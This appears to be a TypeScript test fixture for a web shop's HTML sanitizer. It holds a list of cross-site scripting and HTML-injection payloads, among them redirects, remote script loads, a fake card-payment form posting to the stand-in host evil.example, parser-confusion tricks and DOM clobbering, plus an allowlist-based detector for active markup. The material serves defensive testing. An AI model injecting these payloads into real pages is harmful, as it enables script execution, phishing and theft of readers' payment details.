export const EVIL_HOST = 'evil.example';
const AWAY = `http://${EVIL_HOST}/`;
const CALL = 'window.ran=1';

/** HTML with which an imported text could redirect readers, run scripts or imitate the shop. */
export const HTML_PAYLOADS: string[] = [
  `<meta http-equiv="refresh" content="0;url=${AWAY}">`,
  `<META HTTP-EQUIV=refresh CONTENT='0;URL=${AWAY}'>`,
  `<p>ok<meta http-equiv=refresh content=0;url=${AWAY}></p>`,
  `<base href="${AWAY}">`,
  `<link rel="stylesheet" href="${AWAY}x.css">`,
  `<style>body{background:url(${AWAY}x)}</style>`,
  `<p style="position:fixed;inset:0;background:url(${AWAY}y)">over all</p>`,
  `<form action="${AWAY}"><input name=card autofocus onfocus=${CALL}><button formaction="${AWAY}">Pay</button></form>`,
  `<iframe src="${AWAY}"></iframe><iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="${AWAY}"></object><embed src="${AWAY}"><applet code=x></applet>`,
  `<svg onload=${CALL}><animate onbegin=${CALL} attributeName=x></animate><a xlink:href="javascript:${CALL}">x</a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${CALL}&gt;"></table></mtext></math>`,
  `<img src="${AWAY}a.png" srcset="${AWAY}b.png 2x" onerror=${CALL}>`,
  `<picture><source srcset="${AWAY}c.png"><img src=x></picture>`,
  `<video src="${AWAY}d.mp4" poster="${AWAY}e.png" autoplay></video><audio src="${AWAY}f.mp3" autoplay></audio>`,
  `<a href="javascript:${CALL}">j</a><a href="JaVa&#09;Script:${CALL}">k</a><a href="data:text/html,<script>${CALL}</script>">l</a>`,
  `<a href="//${EVIL_HOST}/">protocol-relative</a><a href="vbscript:${CALL}" target=_top ping="${AWAY}">m</a>`,
  `<script>${CALL}</script><scr<script>ipt>${CALL}</scr</script>ipt><script src="${AWAY}g.js"></script>`,
  `<template><script>${CALL}</script></template><noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>`,
  `</div></main></body></html><h1>Another shop</h1>`,
  `<p title='"><img src=x onerror=${CALL}>'>quotes</p><p <b onclick=${CALL}>half a tag`,
  `<!--><img src=x onerror=${CALL}>--><![CDATA[<img src=x onerror=${CALL}>]]><?php echo '<img onerror=${CALL}>' ?>`,
  `<textarea><img src=x onerror=${CALL}></textarea><title><img src=x onerror=${CALL}></title><plaintext>`,
  `<dialog open>Log in</dialog><marquee onstart=${CALL}>m</marquee><details open ontoggle=${CALL}>d</details>`,
  `<div id="search-input" class="fixed inset-0" data-buy-box="{}">clobbered</div><a name=document id=cookie>n</a>`,
  `<astro-island component-url="data:text/javascript,${CALL}" client="load"></astro-island>`,
];

const SAFE_TAGS =
  /^(p|br|hr|h[2-4]|ul|ol|li|blockquote|d[ltd]|strong|b|em|i|u|s|small|sub|sup|a|table|caption|t(head|body|foot|r|h|d))$/;

/** Returns the tags of a text that may be active in a page, judged by their syntax, for tests without a browser. */
export function activeMarkup(html: string): string[] {
  const tags = [...html.matchAll(/<\/?([a-z!?][^\s>/]*)([^>]*)>?/gi)];
  const isSafe = (name: string, attributes: string) => SAFE_TAGS.test(name) && hasOnlySafeAttributes(attributes);
  return tags.filter(([, name = '', rest = '']) => !isSafe(name, rest)).map(([tag]) => tag);
}

function hasOnlySafeAttributes(attributes: string): boolean {
  const otherAttributes = attributes
    .replace(/ (colspan|rowspan|scope)="\w*"/g, '')
    .replace(/ href="([^"]*)"/, (_match, href: string) =>
      /^(https?:|mailto:|tel:|\/(?!\/)|#)/.test(href) ? '' : href,
    );
  return /^\s*\/?$/.test(otherAttributes);
}
